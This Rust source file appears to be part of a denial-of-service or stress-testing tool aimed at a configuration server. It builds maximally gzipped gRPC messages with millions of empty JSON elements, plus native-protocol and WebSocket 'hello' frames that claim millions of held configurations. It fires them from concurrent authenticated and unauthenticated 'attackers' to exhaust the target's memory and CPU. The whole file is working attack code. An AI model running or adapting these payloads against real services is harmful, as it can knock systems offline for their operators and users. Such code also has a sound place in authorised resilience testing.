//! Messages that are short on the line and long once they are understood.

use std::io::Write as _;
use std::sync::Arc;

use flate2::Compression;
use flate2::write::GzEncoder;
use futures_util::future::BoxFuture;

use super::super::http2::{Http2, UNARY, message, payload};
use super::super::sessions::{field, socket, text_head, varint};
use super::super::target::{Door, Target};
use super::swarm;

/// Elements of a message over gRPC: as many as the longest that is taken, 32 MiB, has room for.
const ELEMENTS: usize = 10_800_000;
/// Empty configurations that a client says it holds.
const HELD: usize = 8_000_000;
const HELD_AS_JSON: usize = 5_000_000;

/// Compressed messages with very many empty elements.
pub(in super::super) fn grpc_elements(target: Arc<Target>) -> BoxFuture<'static, ()> {
    packed(target, "ConfigBatchListenRequest", &repeated(r#"{"configListenContexts":["#, "{}", ELEMENTS, "]}"))
}

/// The same in a member that may be anything.
pub(in super::super) fn grpc_values(target: Arc<Target>) -> BoxFuture<'static, ()> {
    packed(target, "ConfigQueryRequest", &repeated(r#"{"abilityTable":["#, "[]", ELEMENTS, "]}"))
}

/// A message of this class by attackers who are set up, and as a class that is answered before by those who are not.
fn packed(target: Arc<Target>, class: &str, json: &str) -> BoxFuture<'static, ()> {
    let packed = |class, token| -> Arc<[u8]> { gzip(&payload(class, token, json.as_bytes())).into() };
    let before = packed("ServerCheckRequest", None);
    let [without, with] = [None, target.token.as_deref()].map(|token| packed(class, token));
    Box::pin(swarm(target, 8, move |target, attacker| {
        let is_set_up = attacker % 4 < 2;
        let packed = match (is_set_up, attacker.is_multiple_of(2)) {
            (false, _) => &before,
            (true, true) => &with,
            (true, false) => &without,
        };
        let packed = Arc::clone(packed);
        async move {
            let mut connection = Http2::open(&target, 0xffff).await?;
            if is_set_up {
                connection.set_up().await?;
            }
            let stream = connection.begin(UNARY, true).await?;
            connection.send_part(stream, &message(true, &packed), true).await?;
            // Until the node has answered, or closes.
            while connection.receive().await?.1 != stream {}
            Ok(())
        }
    }))
}

/// A hello with very many empty messages.
pub(in super::super) fn native_held(target: Arc<Target>) -> BoxFuture<'static, ()> {
    const HELD_FIELD: u8 = 7;
    const HELLO_FIELD: u8 = 2;
    let hello = field(HELD_FIELD, 0).repeat(HELD);
    let envelope = [field(HELLO_FIELD, hello.len()), hello].concat();
    let frame: Arc<[u8]> = [varint(envelope.len()), envelope].concat().into();
    Box::pin(swarm(target, 4, move |target, _| {
        let frame = Arc::clone(&frame);
        async move {
            let mut line = target.connect(Door::Native).await?;
            line.send(&frame).await?;
            line.drain().await
        }
    }))
}

/// The same as JSON.
pub(in super::super) fn websocket_held(target: Arc<Target>) -> BoxFuture<'static, ()> {
    let hello = repeated(r#"{"id":1,"hello":{"clientId":"siege","held":["#, "{}", HELD_AS_JSON, "]}}");
    let text: Arc<[u8]> = [text_head(hello.len()), hello.into_bytes()].concat().into();
    Box::pin(swarm(target, 4, move |target, attacker| {
        let text = Arc::clone(&text);
        async move {
            let mut line = socket(&target, attacker).await?;
            line.send(&text).await?;
            line.drain().await
        }
    }))
}

fn repeated(begin: &str, element: &str, count: usize, end: &str) -> String {
    let mut text = String::with_capacity(begin.len() + (element.len() + 1) * count + end.len());
    text.push_str(begin);
    text.push_str(&format!("{element},").repeat(count - 1));
    text.push_str(element);
    text.push_str(end);
    text
}

/// Bytes packed as tightly as can be.
fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut packer = GzEncoder::new(Vec::new(), Compression::best());
    packer.write_all(bytes).expect("memory takes what is written");
    packer.finish().expect("memory takes what is written")
}
